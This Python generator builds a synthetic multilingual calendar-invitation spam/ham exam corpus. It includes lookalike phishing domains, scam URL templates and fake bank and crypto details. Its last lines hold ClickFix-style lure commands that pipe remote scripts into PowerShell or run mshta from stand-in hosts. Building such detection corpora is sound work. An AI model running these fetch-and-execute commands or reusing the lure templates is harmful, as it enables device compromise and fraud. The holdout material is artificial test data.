#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Generate the holdout28 calendar-invitation exam corpus (deterministic).

usage: python3 gen.py [output-dir]      (default: out/ beside this file)
"""
import datetime as dt
import os
import random
import string
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import tzdata  # noqa: E402
import layout  # noqa: E402
import transport  # noqa: E402
from model import Msg, Ev, ruuid, rhex, ralnum, rb64  # noqa: E402
from mimeutil import Part, multi, leaf, fold_header, ew, can_encode  # noqa: E402
from data import (NAMES, ORGS, FREEMAIL, TLD, LANG_TZ, CHARSETS, CITIES, AIRLINES, RAIL, HOTELS, BOOKING,  # noqa: E402
                  SCHEDULERS, VENDORS, ATS, LISTHOSTS)
from texts_en import SPAM as EN_SPAM, HAM as EN_HAM  # noqa: E402
from texts_intl import INTL  # noqa: E402
from boiler import b as B  # noqa: E402

SEED = 28028
FREEMAIL_ALL = set(d for lst in FREEMAIL.values() for d in lst) | {'yahoo.com', 'icloud.com', 'me.com', 'outlook.com', 'hotmail.com', 'live.com', 'aol.com', 'gmail.com'}

SPAM_TARGET = {'retail-sale-wave': 12, 'prize-survey-lure': 12, 'crypto-investment': 12, 'dating-sextortion': 11,
               'fee-scam': 12, 'credential-phish': 12, 'callback-scam': 12, 'fake-update-lure': 11, 'bec': 12,
               'advance-fee': 11, 'task-job-scam': 11, 'compromised-docshare': 11, 'nagging-payload': 11,
               'mass-invite': 10}
HAM_TARGET = {'travel-booking': 12, 'appointment-booking': 12, 'vendor-webinar': 12, 'community-series': 12,
              'it-notice': 11, 'colleague-docshare': 11, 'finance-reminder': 11, 'recruiter': 11,
              'forwarded-invite': 11, 'list-copy': 11, 'reply-cancel': 12, 'personal-invite': 12,
              'support-callback': 11, 'team-meeting': 11}

CAT_DESC = {
    'retail-sale-wave': 'retail/outlet "sale" waves (sunglasses, bags, boots) pushed as invitations',
    'prize-survey-lure': 'prize, survey and gift-card lures',
    'crypto-investment': 'crypto withdrawal, AI-trading and investment-adviser fraud',
    'dating-sextortion': 'dating lures and sextortion/extortion demands',
    'fee-scam': 'parcel, toll, tax-refund and fine "small fee" scams',
    'credential-phish': 'credential phishing under big brands, banks and government',
    'callback-scam': 'fake renewal/invoice notices with only a phone number (callback/TOAD)',
    'fake-update-lure': 'fake meeting-client/browser updates and "paste this command" lures',
    'bec': 'business e-mail compromise: CEO requests, gift cards, bank-detail and payroll changes',
    'advance-fee': 'advance-fee, inheritance, compensation and lottery fraud',
    'task-job-scam': 'task/job scams moving victims to WhatsApp/Telegram/LINE',
    'compromised-docshare': 'document-share lures sent from compromised business mailboxes',
    'nagging-payload': 'nagging payloads: endless recurrence, many alarms, far-future or many events',
    'mass-invite': 'mass invitations with hundreds of unrelated attendees',
    'travel-booking': 'airline, rail, hotel and car-rental bookings (codes, amounts, phone numbers)',
    'appointment-booking': 'doctor, dentist, restaurant, salon, garage and vet bookings',
    'vendor-webinar': 'vendor webinars, conferences and advisory boards (free/offer wording, big lists)',
    'community-series': 'school/church/club/sport series without end date, often from free mail',
    'it-notice': 'IT maintenance windows, password-expiry and MFA notices',
    'colleague-docshare': 'colleagues sharing documents with links or attachments',
    'finance-reminder': 'finance payment-run/expense reminders and bank-detail fraud warnings',
    'recruiter': 'recruiter and interview invitations',
    'forwarded-invite': 'forwarded invitations (Outlook FW, Gmail Fwd, message/rfc822)',
    'list-copy': 'mailing-list copies of invitations (modified, broken DKIM)',
    'reply-cancel': 'METHOD:REPLY/CANCEL/COUNTER traffic for real meetings',
    'personal-invite': 'invitations between friends and family',
    'support-callback': 'support callbacks, technician visits and advisor calls that were requested',
    'team-meeting': 'ordinary internal meetings: 1:1s, sprint planning, all-hands',
}

CLIENT_QUOTA = {'google': 34, 'exchange': 22, 'teams': 10, 'outlook': 10, 'icloud': 10, 'applemail': 8,
                'thunderbird': 11, 'zoom': 8, 'nextcloud': 6, 'zimbra': 6, 'yahoo': 7, 'sogo': 5, 'app': 23}

AFF = {
 'retail-sale-wave': dict(icloud=6, google=3, yahoo=2, app=2, teams=0, zoom=0, nextcloud=.3, sogo=.3, zimbra=.5),
 'prize-survey-lure': dict(google=3, icloud=2, app=3, exchange=2, zoom=.5, teams=.3),
 'crypto-investment': dict(google=3, exchange=2, zoom=3, icloud=2, app=1.5, teams=1),
 'dating-sextortion': dict(google=3, icloud=2, yahoo=2, app=2, teams=0, zoom=.5, sogo=.3),
 'fee-scam': dict(app=4, google=2, icloud=2, exchange=1.5, teams=0, zoom=0),
 'credential-phish': dict(exchange=3, teams=1.5, google=2, app=2, outlook=2, zimbra=1.5, zoom=.3),
 'callback-scam': dict(google=4, icloud=2, yahoo=2, exchange=1.5, teams=0, zoom=0),
 'fake-update-lure': dict(teams=3, exchange=2, google=2, zoom=2, outlook=1.5),
 'bec': dict(exchange=3, google=3, outlook=2, applemail=2, yahoo=1.5, zoom=0, nextcloud=.3),
 'advance-fee': dict(yahoo=3, google=2, outlook=2, zimbra=2, sogo=1.5, teams=0, zoom=0),
 'task-job-scam': dict(google=3, zoom=1.5, teams=1.5, icloud=1),
 'compromised-docshare': dict(exchange=3, outlook=3, teams=2, zimbra=2, nextcloud=2, thunderbird=2, zoom=0, yahoo=.3, icloud=.3),
 'nagging-payload': dict(app=4, google=2, icloud=2, thunderbird=1.5, teams=0, zoom=0, exchange=.5),
 'mass-invite': dict(google=3, icloud=3, exchange=2, yahoo=1.5, app=2, teams=.5, zoom=0),
 'travel-booking': dict(app=8, exchange=1, outlook=1, google=.5, yahoo=.2, icloud=.2, zoom=0, teams=0, sogo=.3, zimbra=.3),
 'appointment-booking': dict(app=6, google=2, outlook=1, exchange=1, zoom=0, teams=0, yahoo=.5),
 'vendor-webinar': dict(zoom=5, teams=2, exchange=2, google=1.5, app=2, yahoo=0, icloud=.2),
 'community-series': dict(google=3, yahoo=3, icloud=2, applemail=2, thunderbird=2, teams=0, zoom=.5),
 'it-notice': dict(exchange=3, teams=1, zimbra=2, sogo=2, yahoo=0, icloud=0, zoom=0),
 'colleague-docshare': dict(google=3, teams=2, exchange=2, nextcloud=2, yahoo=0, zoom=.3),
 'finance-reminder': dict(exchange=3, outlook=2, google=2, yahoo=0, icloud=0, zoom=.3),
 'recruiter': dict(google=3, zoom=2, teams=2, app=2, yahoo=.3, icloud=.2),
 'forwarded-invite': dict(exchange=2, outlook=2, google=2, applemail=2, thunderbird=2, zoom=0, app=.3),
 'list-copy': dict(thunderbird=2, google=2, zoom=.3, app=.5),
 'reply-cancel': dict(google=3, exchange=3, zoom=0, app=.3),
 'personal-invite': dict(google=3, icloud=3, yahoo=2, applemail=2, teams=0, zoom=.3, zimbra=.3, sogo=.3),
 'support-callback': dict(app=4, teams=2, zoom=2, exchange=2, yahoo=.2, icloud=.3),
 'team-meeting': dict(exchange=3, teams=3, google=3, yahoo=0, icloud=.3),
}


# ---------------------------------------------------------------- helpers

def wchoice(rng, pairs):
    tot = sum(w for _, w in pairs)
    r = rng.random() * tot
    for v, w in pairs:
        r -= w
        if r <= 0:
            return v
    return pairs[-1][0]


class Strict(dict):
    def __missing__(self, k):
        raise KeyError(k)


def fill(s, P):
    if not s:
        return s
    return string.Formatter().vformat(s, (), P)


def base_lang(lang):
    return lang


def person(rng, lang):
    nf, nl, lf, ll = rng.choice(NAMES[lang])
    if lang in ('zh', 'zt', 'ko'):
        full = nl + nf
    elif lang == 'ja':
        full = nl + ' ' + nf
    else:
        full = nf + ' ' + nl
    return dict(first=nf, last=nl, full=full, lf=lf, ll=ll.replace(' ', ''))


def local_part(rng, p, free=False):
    f, l = p['lf'], p['ll']
    pats = ['{f}.{l}', '{f}{l}', '{f0}{l}', '{f}', '{f0}.{l}', '{l}.{f}', '{f}_{l}']
    if free:
        pats = ['{f}.{l}{n}', '{f}{l}{n}', '{f}.{l}', '{f0}{l}{n2}', '{l}{f}{n}', '{f}_{l}{n2}']
    s = rng.choice(pats).format(f=f, l=l, f0=f[0], n=rng.randint(1, 99), n2=rng.randint(70, 2005))
    return s.replace("'", '')


def pick_org(rng, lang, exclude=()):
    pool = [o for o in ORGS.get(lang, ORGS['en']) if o[1] not in exclude]
    if not pool or rng.random() < 0.12:
        pool = [o for o in ORGS['en'] if o[1] not in exclude]
    return rng.choice(pool)


def personal_domain(rng, lang, p):
    t = rng.choice(TLD[lang])
    return rng.choice(['{l}-family.{t}', '{l}{f0}.{t}', 'fam-{l}.{t}', '{l}-home.{t}', '{f}{l}.{t}', '{l}-consulting.{t}',
                       '{l}-design.{t}']).format(l=p['ll'], f=p['lf'], f0=p['lf'][0], t=t)


def freemail_for(rng, lang, client):
    if client == 'google':
        return 'gmail.com'
    if client in ('exchange', 'teams'):
        return rng.choice(['outlook.com', 'hotmail.com', 'outlook.com', 'live.com'])
    if client == 'yahoo':
        return {'ja': 'yahoo.co.jp', 'zt': 'yahoo.com.tw', 'fr': 'yahoo.fr'}.get(lang, rng.choice(['yahoo.com', 'yahoo.com', 'aol.com']))
    if client == 'icloud':
        return rng.choice(['icloud.com', 'icloud.com', 'me.com'])
    pool = [d for d in FREEMAIL[lang] if not d.startswith('yahoo') and d not in ('aol.com',)]
    if client == 'applemail' and rng.random() < 0.5:
        return 'icloud.com'
    return rng.choice(pool)


CHEAP_TLD = ['com', 'net', 'top', 'xyz', 'shop', 'online', 'info', 'click', 'app', 'support', 'live', 'site', 'icu',
             'cfd', 'sbs', 'store', 'co', 'io', 'help', 'services']

BRAND_WORDS = {
    'rayban': ['rayban-outlet', 'rb-sunglasses', 'raybans-sale'], 'mk': ['mk-outletstore', 'mkbags-clearance'],
    'ugg': ['ugg-clearance', 'uggboots-outlet'], 'pandora': ['pandora-charms-sale', 'pndr-jewelry'],
    'nike': ['nike-warehouse', 'airmax-clearance'], 'watches': ['luxwatch-deals', 'vipbrands-store'],
    'longchamp': ['longchamp-soldes', 'pliage-outlet'], 'moncler': ['moncler-outlet-it', 'piumini-sconti'],
    'bags': ['brandbag-sale', 'luxbag-outlet', 'meipin-shop'],
    'walmart': ['walmart-rewards', 'wm-giftcenter'], 'amazon': ['amzn-loyalty', 'prime-rewardcenter', 'amazon-member-care'],
    'costco': ['costco-anniversary', 'costco-members-gift'], 'apple': ['apple-winner', 'icloud-billing-help'],
    'tmobile': ['tmo-survey', 'tmobile-rewards'], 'dyson': ['dyson-draw', 'dyson-rewards'], 'mercadona': ['mercadona-regalo'],
    'magalu': ['magalu-premios', 'magazine-promo'], 'migros': ['migros-hediye'], 'survey': ['opinion-rewards', 'survey-gift', 'reward-zone'],
    'btc': ['coinvault-markets', 'btc-wallet-secure', 'kryptex-pro'], 'ai': ['quantum-ai-trade', 'neurotrade-pro', 'aitrader-platform'],
    'tesla': ['tesla-btc-event', 'x2-giveaway'], 'wallet': ['wallet-connect-claim', 'stake-rewards'], 'broker': ['capital-prime-markets'],
    'line': ['stock-teacher'], 'dating': ['meet-singles', 'hotdate-now', 'flirtnear'], 'dating-conf': ['privatecam-room', 'videochat-live'],
    'sextortion': ['x'], 'usps': ['usps-redelivery', 'uspostal-care', 'usps-trackhelp'], 'toll': ['ezpass-tollpay', 'toll-services-us'],
    'hmrc': ['hmrc-refund-gov', 'gov-uk-taxrefund'], 'fine': ['citation-pay', 'traffic-fines-portal'], 'dhl': ['dhl-zustellservice', 'dhl-express-customs'],
    'royalmail': ['royalmail-redelivery', 'rm-missedparcel'], 'laposte': ['colissimo-relivraison', 'laposte-suivi-colis'],
    'correios': ['correios-taxacao', 'rastreio-correios'], 'postnl': ['postnl-bezorging', 'postnl-pakket-info'],
    'elta': ['elta-courier-gr'], 'indiapost': ['indiapost-redelivery'], 'm365': ['m365-secure-login', 'office365-keeppass', 'ms-authportal'],
    'docusign': ['docusign-esign-review', 'dsign-documents'], 'paypal': ['paypal-resolution', 'pp-security-center'],
    'dropbox': ['dropbox-sharefile', 'dbx-transfer'], 'bank': ['secure-banking-verify', 'online-bank-auth', 'kunden-sicherheit'],
    'gov': ['gov-services-verify', 'ameli-remboursement', 'gosuslugi-verify'], 'card': ['card-security-check', 'smbc-card-verify'],
    'norton': ['norton-billing'], 'geeksquad': ['geeksquad-billing'], 'mcafee': ['mcafee-orders'], 'microsoft': ['ms-support-help'],
    'zoom': ['zoom-workplace-update', 'zoomapp-download'], 'teams': ['teams-driverupdate', 'msteams-client'], 'clickfix': ['verify-human-check'],
    'webex': ['webex-addin-download'], 'browser': ['browser-update-center'], 'meetclient': ['meetsecure-app', 'confcall-client', 'vstream-meet'],
    'bankchange-link': ['payments-docs'], 'tasks': ['hotelrank-tasks', 'taskboost-earn'], 'virus': ['device-cleaner', 'virus-removal-now'],
    'wfh': ['homeincome-daily'], 'prize': ['prize-claim-center'], 'keto': ['keto-slim-shop'], 'casino': ['spinwin-casino', 'lucky-spins'],
    'pharma': ['rx-discount-pharm'], 'giveaway': ['iphone-giveaway-now', 'free-phone-promo'], 'crypto': ['vip-signals', 'airdrop-claim'],
    'directory': ['bizdirectory-verify'], 'webinar': ['dropship-masterclass'], 'compensation': ['kompensaciya-fond'],
}

ABUSED = ['https://storage.googleapis.com/{r}/index.html', 'https://{r}.web.app/', 'https://{r}.pages.dev/',
          'https://docs.google.com/forms/d/e/1FAIpQL{R}/viewform', 'https://forms.office.com/r/{r}',
          'https://{r}.blob.core.windows.net/$web/index.html', 'https://sites.google.com/view/{r}/home',
          'https://{r}.r2.dev/index.html', 'https://www.canva.com/design/D{R}/view', 'https://{r}.notion.site/',
          'https://{r}.firebaseapp.com/', 'https://{r}.github.io/', 'https://{r}.webflow.io/']
SHORT = ['https://bit.ly/{s}', 'https://t.ly/{s}', 'https://tinyurl.com/{s}', 'https://is.gd/{s}', 'https://cutt.ly/{s}', 'https://rb.gy/{s}']


def look_domain(rng, brand):
    w = rng.choice(BRAND_WORDS.get(brand, ['secure-service', 'member-portal', 'info-center']))
    if w == 'x':
        w = ralnum(rng, 8, 'abcdefghijklmnopqrstuvwxyz')
    suf = rng.choice(['', '', '-online', '-center', '-help', '-secure', '-portal', '-info', '%d' % rng.randint(2, 99)])
    return '%s%s.%s' % (w, suf, rng.choice(CHEAP_TLD))


def spam_url(rng, brand, dom=None):
    r = rng.random()
    tok = ralnum(rng, rng.randint(6, 12))
    if r < 0.25:
        return rng.choice(ABUSED).format(r=ralnum(rng, rng.randint(8, 14)), R=rb64(rng, 40).replace('/', 'x').replace('+', 'Z'))
    if r < 0.35:
        return rng.choice(SHORT).format(s=ralnum(rng, 7, string.ascii_letters + string.digits))
    d = dom or look_domain(rng, brand)
    path = rng.choice(['/{t}', '/track/{t}', '/claim?id={t}', '/login/?session={t}', '/pay/{t}', '/?ref={t}', '/s/{t}',
                       '/verify/{t}', '/offer/{t}', '/', '/index.php?u={t}', '/auth/{t}/'])
    return 'https://%s%s%s' % (rng.choice(['', 'www.', 'secure.', 'app.']), d, path.format(t=tok))


def iban(rng, cc='DE'):
    lens = {'DE': 18, 'GB': 18, 'ES': 20, 'NL': 14, 'FR': 23, 'IT': 23, 'PL': 24, 'LT': 16, 'PT': 21}
    if cc == 'GB':
        bban = 'NWBK' + ''.join(rng.choice(string.digits) for _ in range(14))
    elif cc == 'NL':
        bban = rng.choice(['RABO', 'INGB', 'ABNA', 'BUNQ']) + ''.join(rng.choice(string.digits) for _ in range(10))
    elif cc == 'LT':
        bban = ''.join(rng.choice(string.digits) for _ in range(16))
    else:
        bban = ''.join(rng.choice(string.digits) for _ in range(lens.get(cc, 18)))
    conv = ''.join(str(int(c, 36)) for c in bban + cc + '00')
    chk = 98 - int(conv) % 97
    s = '%s%02d%s' % (cc, chk, bban)
    return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))


def phone(rng, lang, tollfree=False):
    if lang == 'en':
        if tollfree:
            return '+1 (%s) 555-01%02d' % (rng.choice(['800', '833', '844', '855', '866', '877', '888']), rng.randint(0, 99))
        return rng.choice(['+1 (%d) 555-01%02d' % (rng.randint(201, 989), rng.randint(0, 99)),
                           '+44 20 7946 0%03d' % rng.randint(0, 999), '+61 2 5550 %04d' % rng.randint(0, 9999)])
    fmt = {'de': '+49 30 %d %d', 'fr': '+33 1 %d %d', 'es': '+34 91 %d %d', 'pt': '+55 11 9%d-%d', 'it': '+39 02 %d %d',
           'nl': '+31 20 %d %d', 'pl': '+48 22 %d %d', 'tr': '+90 212 %d %d', 'ru': '+7 495 %d-%d', 'el': '+30 21 %d %d',
           'ar': '+966 5%d %d', 'he': '+972 3-%d-%d', 'zh': '+86 10 %d %d', 'zt': '+886 2 %d %d', 'ja': '03-%d-%d',
           'ko': '02-%d-%d', 'hi': '+91 98%d %d', 'th': '02 %d %d'}[lang]
    return fmt % (rng.randint(100, 999), rng.randint(1000, 9999))


def btc(rng):
    return 'bc1q' + ralnum(rng, 38, 'acdefghjklmnpqrstuvwxyz023456789')


def money(rng, lo, hi, lang, dec=True):
    v = rng.uniform(lo, hi)
    if not dec:
        s = '{:,}'.format(int(v))
    else:
        s = '{:,.2f}'.format(v)
    if lang in ('de', 'es', 'it', 'nl', 'pt', 'tr', 'el', 'pl', 'ru', 'fr'):
        s = s.replace(',', 'X').replace('.', ',').replace('X', '.' if lang not in ('fr', 'pl', 'ru') else ' ')
    return s


CUR = {'en': 'USD', 'de': 'EUR', 'fr': 'EUR', 'es': 'EUR', 'pt': 'BRL', 'it': 'EUR', 'nl': 'EUR', 'pl': 'PLN', 'tr': 'TRY',
       'ru': 'RUB', 'el': 'EUR', 'ar': 'SAR', 'he': 'ILS', 'zh': 'CNY', 'zt': 'TWD', 'ja': 'JPY', 'ko': 'KRW', 'hi': 'INR', 'th': 'THB'}


# ---------------------------------------------------------------- planning

def plan():
    slots = {'spam': [], 'ham': []}
    for lang in sorted(INTL):
        for side in ('spam', 'ham'):
            for cat, e in INTL[lang][side]:
                slots[side].append((cat, lang, e))
    for side, EN, TGT in (('spam', EN_SPAM, SPAM_TARGET), ('ham', EN_HAM, HAM_TARGET)):
        for cat, n in TGT.items():
            have = sum(1 for s in slots[side] if s[0] == cat)
            need = n - have
            ents = EN[cat]
            assert len(ents) >= need >= 0, (side, cat, len(ents), need)
            for e in ents[:need]:
                slots[side].append((cat, 'en', e))
        assert len(slots[side]) == 160, (side, len(slots[side]))
    return slots


def assign_clients(rng, side, slots):
    quota = dict(CLIENT_QUOTA)
    idx = list(range(len(slots)))
    rng.shuffle(idx)

    def strict(i):
        a = AFF[slots[i][0]]
        return sum(a.get(c, 1) for c in quota) / max(a.get(c, 1) for c in quota)
    idx.sort(key=strict)
    res = {}
    for i in idx:
        a = AFF[slots[i][0]]
        cand = [(c, a.get(c, 1) * quota[c]) for c in quota if quota[c] > 0 and a.get(c, 1) > 0]
        if not cand:
            cand = [(c, quota[c]) for c in quota if quota[c] > 0]
        c = wchoice(rng, cand)
        quota[c] -= 1
        res[i] = c
    return res


# ---------------------------------------------------------------- context / common

class Ctx:
    pass


YEAR_LO = {'crypto-investment': 2017, 'task-job-scam': 2020, 'callback-scam': 2018, 'fake-update-lure': 2020}
BRAND_LO = {'sextortion': 2018, 'toll': 2022, 'clickfix': 2024, 'teams': 2019, 'zoom': 2020, 'line': 2020}


def pick_sent(rng, side, cat, client, e, lang):
    lo = 2016
    lo = max(lo, YEAR_LO.get(cat, 2016), BRAND_LO.get(e.get('brand', ''), 2016))
    if client == 'teams' or e.get('kind') == 'teams':
        lo = max(lo, 2018)
    if client == 'zoom' or 'zoomurl' in (e.get('desc') or ''):
        lo = max(lo, 2020 if side == 'ham' else 2019)
    if cat == 'retail-sale-wave' and lang == 'en' and rng.random() < 0.5:
        t = dt.datetime(2016, 11, 12) + dt.timedelta(seconds=rng.randint(0, 38 * 86400))
    else:
        a = dt.datetime(lo, 1, 4)
        z = dt.datetime(2026, 11, 27)
        t = a + dt.timedelta(seconds=rng.randint(0, int((z - a).total_seconds())))
    return t.replace(microsecond=0)


def work_hours(rng, m, tz):
    """Move the send time into local working hours on a weekday."""
    loc = tzdata.from_utc(tz, m.sent)
    while loc.weekday() >= 5:
        loc += dt.timedelta(days=1)
    loc = loc.replace(hour=rng.randint(7, 18), minute=rng.randint(0, 59), second=rng.randint(0, 59))
    m.sent = tzdata.to_utc(tz, loc)


def ev_time(rng, m, tz, days=(1, 21), hours=(9, 16), dur=60, weekend=False, mins=(0, 0, 30, 0, 15, 45)):
    loc = tzdata.from_utc(tz, m.sent)
    d = loc.date() + dt.timedelta(days=rng.randint(*days))
    if not weekend:
        while d.weekday() >= 5:
            d += dt.timedelta(days=1)
    st = dt.datetime(d.year, d.month, d.day, rng.randint(*hours), rng.choice(mins))
    return st, st + dt.timedelta(minutes=dur)


def uid_for(rng, client, dom='example.com'):
    if client == 'google':
        return ralnum(rng, 26) + '@google.com'
    if client in ('exchange', 'teams', 'outlook'):
        t = rhex(rng, 16, True)
        return '040000008200E00074C5B7101A82E00800000000' + t + '000000000000000010000000' + rhex(rng, 32, True)
    if client in ('icloud', 'applemail'):
        return ruuid(rng, True)
    if client == 'zoom':
        return 'ZOOM' + str(rng.randint(8 * 10 ** 10, 9 * 10 ** 10)) + '@zoom.us'
    if client == 'zimbra':
        return ruuid(rng)
    if client == 'yahoo':
        return ruuid(rng) + '@yahoo.com'
    if client == 'sogo':
        return '%s-%s-%s-%s.ics' % (rhex(rng, 4, True), rhex(rng, 8, True), rhex(rng, 1), rhex(rng, 8, True))
    if client == 'app':
        return rng.choice([ruuid(rng), rhex(rng, 32) + '@' + dom, '%d-%s@%s' % (rng.randint(10 ** 5, 10 ** 8), rhex(rng, 6), dom),
                           ruuid(rng, True), rhex(rng, 13)])
    return ruuid(rng)


def rcpt_for(rng, lang, kind='mixed', org=None):
    p = person(rng, lang)
    if kind == 'org' or (kind == 'mixed' and rng.random() < 0.45):
        o = org or pick_org(rng, lang)
        dom = o[1]
        p['org'] = o[0]
    elif rng.random() < 0.35:
        dom = rng.choice(['example.net', 'example.org', 'example.com'])
        p['org'] = None
    else:
        dom = personal_domain(rng, lang, p)
        p['org'] = None
    p['dom'] = dom
    p['addr'] = '%s@%s' % (local_part(rng, p), dom)
    return p


def add_att(ev, name, addr, partstat='NEEDS-ACTION', role='REQ-PARTICIPANT', rsvp=True):
    ev.attendees.append(dict(name=name, addr=addr, partstat=partstat, role=role, rsvp=rsvp))


def setup(ctx):
    rng, m = ctx.rng, ctx.m
    lang = ctx.lang
    m.sender_tz = rng.choice(LANG_TZ[lang])
    cs = CHARSETS[lang]
    if m.client in ('google', 'icloud', 'zoom', 'nextcloud', 'sogo'):
        m.charset = 'utf-8'
    else:
        m.charset = wchoice(rng, cs)


def sender_setup(ctx, kind, brand=None, display=None, org=None, rcpt_org=None):
    """Create the sender according to kind and client."""
    rng, m, lang = ctx.rng, ctx.m, ctx.lang
    cl = m.client
    if kind == 'spoof' and cl in ('google', 'icloud', 'yahoo', 'zoom', 'exchange', 'teams'):
        kind = 'lookalike' if rng.random() < 0.5 else 'freemail'
    if cl in ('yahoo', 'icloud') and kind not in ('freemail',):
        kind = 'freemail'
    if cl == 'google' and kind == 'vps':
        kind = 'freemail'
    if cl in ('exchange', 'teams') and kind == 'vps':
        kind = 'lookalike'
    p = person(rng, ctx.slang)
    m.kind = kind
    if kind == 'freemail':
        dom = freemail_for(rng, ctx.slang, cl)
        addr = '%s@%s' % (local_part(rng, p, free=True), dom)
        name = display or p['full']
        m.org_name = None
    elif kind in ('corp', 'compromised'):
        o = org or pick_org(rng, ctx.slang, exclude=(ctx.rc['dom'],))
        dom = o[1]
        addr = '%s@%s' % (local_part(rng, p), dom)
        name = display or p['full']
        m.org_name = o[0]
    elif kind == 'lookalike':
        if brand == 'same-org' and ctx.rc.get('org'):
            d0 = ctx.rc['dom']
            base, _, tld = d0.partition('.')
            dom = rng.choice(['%s-group.%s' % (base, tld), '%s.%s' % (base.replace('i', 'l', 1) if 'i' in base else base + 's', tld),
                              '%s-%s.com' % (base, rng.choice(['hq', 'corp', 'mail'])), '%s.co' % base])
            m.org_name = ctx.rc['org']
        elif cl in ('exchange', 'teams') and rng.random() < 0.35:
            dom = ralnum(rng, rng.randint(6, 10), 'abcdefghijklmnopqrstuvwxyz') + '.onmicrosoft.com'
            m.org_name = None
        else:
            dom = look_domain(rng, brand or 'x')
            m.org_name = None
        addr = '%s@%s' % (rng.choice([local_part(rng, p), 'info', 'support', 'service', 'noreply', 'billing', 'notice', 'admin', 'hr']), dom)
        name = display or p['full']
    elif kind == 'spoof':
        target = ctx.spoof_target if hasattr(ctx, 'spoof_target') else ctx.rc['dom']
        dom = target
        addr = ctx.spoof_addr if hasattr(ctx, 'spoof_addr') else '%s@%s' % (local_part(rng, p), dom)
        name = display if display is not None else p['full']
        m.org_name = ctx.rc.get('org')
    else:  # vps
        dom = '%s.%s' % (rng.choice(['mailer', 'promo', 'news', 'info', 'deals', 'notify']) + '-' + ralnum(rng, 5, 'abcdefghijklmnopqrstuvwxyz'),
                         rng.choice(CHEAP_TLD))
        addr = '%s@%s' % (rng.choice(['info', 'news', 'noreply', 'events', local_part(rng, p)]), dom)
        name = display or p['full']
        m.org_name = None
    m.sender = (name, addr)
    ctx.sp = p
    ctx.P['sender'] = name
    ctx.P['sfirst'] = p['first'] if display is None else name.split()[0]
    ctx.P['scompany'] = m.org_name or (ORGS['en'][0][0] if lang == 'en' else pick_org(rng, lang)[0])
    return kind


def std_event(ctx, summary, desc, loc='', start=None, end=None, tz=None, attendees=True, organizer=True):
    rng, m = ctx.rng, ctx.m
    tz = tz or m.sender_tz
    if start is None:
        start, end = ev_time(rng, m, tz)
    ev = Ev(uid=uid_for(rng, m.client, m.sender[1].split('@')[1]), summary=summary, description=desc, location=loc,
            start=start, end=end, tz=tz)
    if organizer:
        ev.organizer = (m.sender[0], m.sender[1])
    if attendees:
        if m.client == 'google':
            add_att(ev, m.sender[0], m.sender[1], 'ACCEPTED', rsvp=True)
        elif m.client in ('icloud', 'applemail'):
            add_att(ev, m.sender[0], m.sender[1], 'ACCEPTED', role='CHAIR', rsvp=False)
        for n, a in m.to:
            add_att(ev, n, a)
        for n, a in m.cc:
            add_att(ev, n, a, role='OPT-PARTICIPANT')
    if m.client in ('google',) and rng.random() < 0.5:
        ev.alarms.append(dict(trigger='-PT%dM' % rng.choice([10, 30, 15])))
    elif m.client in ('exchange', 'teams', 'outlook') and m.method == 'REQUEST':
        ev.alarms.append(dict(trigger='-PT15M'))
    elif m.client in ('icloud', 'applemail', 'thunderbird', 'nextcloud') and rng.random() < 0.4:
        ev.alarms.append(dict(trigger='-PT%dM' % rng.choice([15, 30, 60])))
    m.events.append(ev)
    return ev


def place_payload(rng, ev, url, mode, label='Join'):
    """Move a link out of the visible description into another property."""
    if not url or mode == 'desc':
        return
    vis = ev.description.replace(url, '').replace('\n\n\n', '\n\n').strip()
    if mode == 'altdesc':
        ev.alt_html = ('<html><head><meta charset="utf-8"></head><body><p>%s</p><p><a href="%s">%s</a></p></body></html>'
                       % (vis.replace('\n', '<br>'), url, label))
        ev.description = vis
    elif mode == 'url':
        ev.description = vis
        ev.url = url
    elif mode == 'attach':
        ev.description = vis
        ev.attach.append(([('FMTTYPE', rng.choice(['application/pdf', 'text/html', 'application/octet-stream']))], url))
    elif mode == 'conference':
        ev.description = vis
        ev.conference.append((label, url))
    elif mode == 'location':
        ev.description = vis
        ev.location = url


def rc_display(ctx):
    return ctx.rc['full']


def base_P(ctx):
    rng, lang = ctx.rng, ctx.lang
    rc = ctx.rc
    P = Strict()
    P['name'] = rc['first'] if lang not in ('ja', 'zh', 'zt', 'ko') else (rc['last'] if lang == 'ja' else rc['full'])
    P['fullname'] = rc['full']
    P['lastname'] = rc['last']
    P['email'] = rc['addr']
    P['company'] = rc.get('org') or pick_org(rng, lang)[0]
    P['amount'] = money(rng, 40, 4000, lang)
    P['amount2'] = money(rng, 10, 300, lang)
    P['ref'] = rng.choice(['%s%d' % (ralnum(rng, 2, 'ABCDEFGHJKLMNPRSTUVWXYZ'), rng.randint(10 ** 7, 10 ** 9)),
                           '%d' % rng.randint(10 ** 5, 10 ** 8), '%s-%d' % (ralnum(rng, 3, 'ABCDEFGHJKLMNPRSTUVWXYZ'), rng.randint(1000, 99999))])
    P['code'] = ralnum(rng, 6, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')
    P['phone'] = phone(rng, lang)
    P['phone2'] = phone(rng, lang)
    P['iban'] = iban(rng, {'en': rng.choice(['GB', 'LT', 'DE']), 'es': 'ES', 'nl': 'NL', 'de': 'DE', 'it': 'IT', 'fr': 'FR', 'pt': 'PT', 'pl': 'PL'}.get(lang, 'LT'))
    P['btc'] = btc(rng)
    P['pw'] = rng.choice(['sunshine', 'Summer2015', 'liverpool1', 'qwerty123', 'monkey88', 'Charlie2012', 'p4ssw0rd'])
    P['tg'] = '@' + rng.choice(['hr_', 'mentor_', 'job', 'assist_', 'coach']) + ralnum(rng, 6, 'abcdefghijklmnopqrstuvwxyz0123456789')
    P['email2'] = '%s%d@%s' % (rng.choice(['barr.', 'dr.', 'agent.', 'mr.', 'claims.', 'officer.']) + rng.choice(['james', 'william', 'moses', 'kofi', 'david']),
                               rng.randint(1, 99), rng.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'hotmail.com', 'proton.me', 'mail.com']))
    P['cmd'] = rng.choice([
        'powershell -w h -nop -c "iwr https://%s/v.txt -UseBasicParsing | iex"' % look_domain(rng, 'clickfix'),
        'mshta https://%s/verify.hta # I am not a robot - reCAPTCHA Verification ID: %d' % (look_domain(rng, 'clickfix'), rng.randint(1000, 9999)),
        'cmd /c curl -s https://%s/c | powershell -' % look_domain(rng, 'clickfix')])
